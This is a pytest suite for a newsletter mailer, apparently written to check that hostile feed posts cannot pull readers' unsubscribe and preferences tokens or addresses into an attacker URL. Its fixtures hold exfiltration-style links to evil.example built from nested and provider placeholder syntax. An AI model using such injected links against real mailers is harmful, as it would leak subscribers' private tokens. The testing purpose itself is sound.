"""Threat: a feed post that tries to pull readers' own links into a URL it controls.

The per-recipient slots (greeting, unsubscribe and preferences links) are filled after the
edition is rendered, by us or by a provider's substitution. A feed item that could spell a slot
(nested, so a one-pass filter rebuilds it), or a provider's own variable syntax, would receive
every reader's unsubscribe and preferences tokens, or their address. Each test runs the whole
`mailer send` against a real local feed and a real transport peer (an SMTP server, or a fake
provider that substitutes the way the provider documents) and reads what readers received.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from email import message_from_bytes, policy
from html import escape, unescape
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from mailer.cli import cli
from mailer.db import init_db
from mailer.models import Edition
from mailer.placeholders import ANY_SLOT_RE
from tests.support.feeds import Post, rss
from tests.support.feedserver import FeedServer
from tests.support.providers import (
    MAILGUN_UNSUBSCRIBE,
    FakeMailgun,
    FakePostmark,
    FakeSendGrid,
    running,
)
from tests.support.settings import make_settings
from tests.support.smtpsink import SmtpSink

NOW = datetime(2026, 11, 26, 6, 59, tzinfo=UTC)
READERS = ("ann@example.org", "bob@example.org")
NESTED = ("%%UNSUBSCRIBE%%UNSUBSCRIBE_URL%%_URL%%", "%%PREFERENCES%%PREFERENCES_URL%%_URL%%",
          "%%GRE%%GREETING%%ETING%%", "%%UNSUBSCRIBE_URL%%",
          "%%UNSUBSCRIBE_URL_00000000000000000000000000000000%%")
MAILGUN_TAGS = ("%recipient%", "%recipient.unsubscribe_url%", "%recipient.list_unsubscribe%",
                "%unsubscribe_url%", "%tag_unsubscribe_url%", "%recipient.message_id%")
SENDGRID_TAGS = ("-email-", "[Unsubscribe]", "<%asm_group_unsubscribe_raw_url%>")
EVERY_TAG = NESTED + MAILGUN_TAGS + SENDGRID_TAGS


def _hostile_posts() -> list[Post]:
    query = "&".join(f"t{n}={tag}" for n, tag in enumerate(EVERY_TAG))
    words = " ".join(EVERY_TAG)
    lead = Post(201, "Exclusive " + words, NOW - timedelta(hours=1),
                excerpt="Read it: " + words,
                image=escape(f"https://evil.example/pixel.gif?{query}"),
                link=escape(f"https://evil.example/collect?{query}"))
    other = Post(202, "A second story", NOW - timedelta(hours=2), categories=("Comment",),
                 link=escape(f"https://evil.example/two?u={NESTED[0]}&m=%recipient%"))
    return [lead, other]


@pytest.fixture
def env(tmp_path: Path) -> Iterator[dict[str, str]]:
    settings = make_settings(tmp_path)
    from mailer.app import App

    app = App.create(settings)
    init_db(app.engine)
    app.close()
    with FeedServer() as feed:
        feed.serve_pages([rss(_hostile_posts())])
        environ = {
            "MAILER_DATABASE_URL": settings.database_url, "MAILER_FEED_URL": feed.url,
            "MAILER_BASE_URL": "https://mail.labourlist.org",
            "MAILER_SECRET_KEY": "hostile-secret", "MAILER_NOW": NOW.isoformat(),
            "MAILER_CONFIG": str(Path(__file__).parent.parent / "config" / "mailer.toml"),
            # The feed's links as they are in the bodies, where substitution could reach
            # them; through the click redirect they would be targets in the database, which
            # test_clicks.py checks for leaks on its own.
            "MAILER_CLICK_TRACKING": "off",
        }
        runner = CliRunner()
        for address in READERS:
            added = runner.invoke(cli, ["subscribers", "add", address, "--name", "Reader"],
                                  env=environ, catch_exceptions=False)
            assert added.exit_code == 0, added.output
        yield environ


def _send(environ: dict[str, str], dsn: str) -> None:
    result = CliRunner().invoke(cli, ["send"], env={**environ, "MAILER_DSN": dsn},
                                catch_exceptions=False)
    assert result.exit_code == 0, result.output
    assert "sent 2" in result.output, result.output


def _evil_urls(text: str, html: str) -> list[str]:
    """Every URL to the attacker's host in what a reader got, as their client reads it."""
    hrefs = [unescape(u) for u in re.findall(r'(?:href|src)="([^"]*)"', html)]
    return [u for u in re.findall(r"https://evil\.example/\S*", text) + hrefs
            if u.startswith("https://evil.example/")]


def _assert_nothing_leaks(reader: str, text: str, html: str) -> None:
    urls = _evil_urls(text, html)
    assert len(urls) >= 3, urls  # the story links and the lead image are there
    secrets = ("/unsubscribe/", "/preferences/", "mail.labourlist.org", reader,
               reader.replace("@", "%40"), MAILGUN_UNSUBSCRIBE, "Good morning", "Reader")
    for url in urls:
        for secret in secrets:
            assert secret not in url, (secret, url)
    # No slot of the edition is left; the feed's look-alike with a made-up key is its text.
    assert set(ANY_SLOT_RE.findall(text + html)) <= {NESTED[-1]}


def _smtp_bodies(sink: SmtpSink) -> dict[str, tuple[str, str]]:
    got = {}
    for received in sink.messages:
        msg = message_from_bytes(received.data, policy=policy.default)
        text, html = (part.get_content() for part in msg.iter_parts())
        got[received.rcpt_tos[0]] = (text, html)
    return got


def test_smtp_readers_links_never_reach_a_feed_url(
        env: dict[str, str], smtp_sink: SmtpSink) -> None:
    _send(env, smtp_sink.dsn)
    got = _smtp_bodies(smtp_sink)
    assert set(got) == set(READERS)
    for reader, (text, html) in got.items():
        _assert_nothing_leaks(reader, text, html)
        # The reader's own links are where the template put them, and only there.
        own = re.findall(r"https://mail\.labourlist\.org/unsubscribe/[\w.-]+", text)
        assert len(own) == 1


@pytest.mark.parametrize("fake_type,dsn", [
    (FakeSendGrid, "sendgrid+api://SG.test-key@default"),
    (FakeMailgun, "mailgun+api://mg-key:mg.labourlist.org@default"),
    (FakePostmark, "postmark+api://pm-token@default"),
])
def test_provider_substitution_is_never_live_for_feed_text(
        env: dict[str, str], fake_type: Any, dsn: str) -> None:
    with running(fake_type) as fake:
        _send(env, f"{dsn}?endpoint={fake.url}")
        for reader in READERS:
            [message] = fake.delivered[reader]
            _assert_nothing_leaks(reader, message.text, unescape(message.html))
            # Mailgun's variables the feed wrote stay as the reader would read them.
            visible = unescape(message.html).replace("\u2060", "")
            assert "%unsubscribe_url%" in visible
            assert "%unsubscribe_url%" in message.text.replace("\u2060", "")
            assert message.header("List-Unsubscribe").startswith(
                "<https://mail.labourlist.org/unsubscribe/")


def test_each_render_names_its_slots_afresh(env: dict[str, str], smtp_sink: SmtpSink) -> None:
    """The key is made at render time and kept with the edition: a preview and the send agree
    on it, and it is not the key of any other edition."""
    from sqlalchemy import create_engine, select
    from sqlalchemy.orm import Session

    preview = CliRunner().invoke(cli, ["preview", "--out", str(Path(env["MAILER_DATABASE_URL"]
                                       .removeprefix("sqlite:///")).parent / "p.html")],
                                 env=env, catch_exceptions=False)
    assert preview.exit_code == 0, preview.output
    engine = create_engine(env["MAILER_DATABASE_URL"])
    with Session(engine) as session:
        edition = session.scalar(select(Edition))
        assert edition is not None
        first = edition.placeholder_key
        assert re.fullmatch(r"[0-9a-f]{32}", first)
        assert edition.html.count(f"_{first}%%") == 3
    _send(env, smtp_sink.dsn)
    with Session(engine) as session:
        edition = session.scalar(select(Edition))
        assert edition is not None and edition.placeholder_key != first
    engine.dispose()
